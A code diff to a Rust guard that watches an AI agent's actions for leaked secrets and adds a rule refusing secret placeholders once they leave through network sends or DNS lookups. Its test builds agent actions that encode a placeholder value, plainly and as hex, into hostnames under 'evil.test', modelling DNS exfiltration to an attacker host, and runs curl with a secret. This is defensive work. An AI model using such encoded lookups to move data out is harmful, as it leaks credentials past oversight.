@@ -29,6 +29,16 @@ const MOST_DECODED: usize = 64 * 1024;
 const WAITING: usize = 64;
 /// What a hit is refused under; the agent is not told whether it was bait.
 const RULE: &str = "leak/known-value";
+/// What a placeholder outside of its slot is refused under. The agent is told no difference.
+const RULE_STAND_IN: &str = "leak/placeholder";
+/// What the names of placeholders begin with here; no secret's and no canary's does.
+const STAND_IN: &str = "placeholder of ";
+
+/// A placeholder's name in what is looked for.
+pub(crate) fn stand_in(one: &creel_secrets::Placeholder) -> String {
+    let skill = one.skill.as_ref().map_or_else(String::new, |skill| format!(" for {skill}"));
+    format!("{STAND_IN}{}{skill}", one.secret)
+}
 
 /// Why the agent is in quarantine.
 #[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
@@ -139,18 +149,20 @@ impl Watch {
         self.canaries.iter().map(|name| (name.clone(), noticed(name))).collect()
     }
 
-    /// The first known value in a text, by name, with the form that it has there.
-    fn look(&self, text: &[u8]) -> Option<(String, &'static str)> {
+    /// The first known value in a text, by name, with the form that it has there. Placeholders count where bytes leave: the
+    /// agent's own programs and tools may have them.
+    fn look(&self, text: &[u8], leaves: bool) -> Option<(String, &'static str)> {
         let known = self.scanner.known();
         if known.is_empty() {
             return None;
         }
+        let counts = |value: &usize| leaves || !known.id(*value).starts_with(STAND_IN);
         if text.len() > MOST_DECODED {
-            let hit = known.find(text).into_iter().find(|hit| hit.confidence >= 1.0)?;
+            let hit = known.find(text).into_iter().find(|hit| hit.confidence >= 1.0 && counts(&hit.value))?;
             return Some((known.id(hit.value).to_owned(), hit.form));
         }
         let found = self.scanner.scan(text).into_iter().filter(|found| found.confidence >= 1.0);
-        let (value, form) = found.filter_map(|found| found.known).next()?;
+        let (value, form) = found.filter_map(|found| found.known).find(|(value, _)| counts(value))?;
         Some((known.id(value).to_owned(), form))
     }
 
@@ -158,7 +170,10 @@ impl Watch {
     fn sound(&self, name: &str, form: &str, at: &str) -> String {
         let is_canary = self.canaries.contains(name);
         let kind = if is_canary { "canary" } else { "secret" };
-        let what = format!("the {kind} `{name}` turned up in {at} ({form})");
+        let what = match name.strip_prefix(STAND_IN) {
+            Some(name) => format!("the placeholder of `{name}` turned up in {at}, outside of its slot ({form})"),
+            None => format!("the {kind} `{name}` turned up in {at} ({form})"),
+        };
         if is_canary {
             let fresh = Quarantine { canary: name.to_owned(), at: at.to_owned(), since_ms: wall_ms() };
             self.quarantine.send_if_modified(|state| {
@@ -188,11 +203,12 @@ fn keep(file: &Path, quarantine: &Quarantine) -> io::Result<()> {
 
 impl Judge for Watch {
     fn judge(&self, action: &Action, facts: &Facts) -> Judgement {
+        let leaves = matches!(action.deed, Deed::Send(_) | Deed::Resolve(_));
         if action.actor == Actor::Agent
-            && let Some((name, form)) = self.look(&text_of(&action.deed))
+            && let Some((name, form)) = self.look(&text_of(&action.deed), leaves)
         {
             let why = self.sound(&name, form, &format!("an act at the {} door", action.door.name()));
-            let rule = RuleId::new(RULE);
+            let rule = RuleId::new(if name.starts_with(STAND_IN) { RULE_STAND_IN } else { RULE });
             let to_agent = format!("it holds what must not leave (`{RULE}`)");
             let refusal = Refusal::new(rule.clone(), to_agent, format!("{why}; nothing allows it"));
             return Judgement { verdict: Verdict::Deny(refusal), rule, why, generation: 0 };
@@ -315,6 +331,34 @@ mod tests {
         assert!(is_allowed(&watch, &act(Actor::Person { name: "a".to_owned() }, resolve(&hex))), "people may");
         assert_eq!(watch.quarantine(), None);
         assert_eq!(watch.try_canaries(), [("bait".to_owned(), true)]);
+    }
+
+    #[test]
+    fn a_placeholder_may_be_held_and_not_sent() {
+        let home = Scratch::new();
+        let value = "Ab3dEf6hIjKlMnOpQrStUvWxYz01".to_owned();
+        let secret = creel_secrets::SecretName::parse("CRM").unwrap();
+        let one = creel_secrets::Placeholder { secret, skill: Some("crm".to_owned()), value: value.clone() };
+        let known = Known::new([("KEY", SECRET.as_bytes()), (stand_in(&one).as_str(), value.as_bytes())]);
+        let (watch, mut trips) =
+            Watch::open(Arc::new(Yes), known, &Nest::default(), &home.0, (Alerts::new(&[]), None)).unwrap();
+        let run = |words: &[&str]| {
+            let argv = words.iter().map(|word| (*word).to_owned()).collect();
+            Deed::Run(creel_guard::Run { argv, ..creel_guard::Run::default() })
+        };
+        assert!(is_allowed(&watch, &act(Actor::Agent, run(&["curl", "-H", &value]))));
+        assert!(!is_allowed(&watch, &act(Actor::Agent, run(&["curl", &value, SECRET]))), "a secret beside it is seen");
+        let host = format!("{}.evil.test", value.to_lowercase());
+        let hex: String = value.bytes().map(|byte| format!("{byte:02x}")).collect();
+        trips.try_recv().unwrap();
+        for name in [host, format!("{hex}.evil.test")] {
+            let judgement = watch.judge(&act(Actor::Agent, resolve(&name)), &Facts::default());
+            assert_eq!(judgement.rule.as_str(), RULE_STAND_IN);
+            let Verdict::Deny(refusal) = judgement.verdict else { panic!("{name}") };
+            assert!(refusal.to_agent.contains(RULE), "it reads like any other: {}", refusal.to_agent);
+            assert!(trips.try_recv().unwrap().what.contains("the placeholder of `CRM for crm`"));
+        }
+        assert_eq!(watch.quarantine(), None);
     }
 
     #[test]
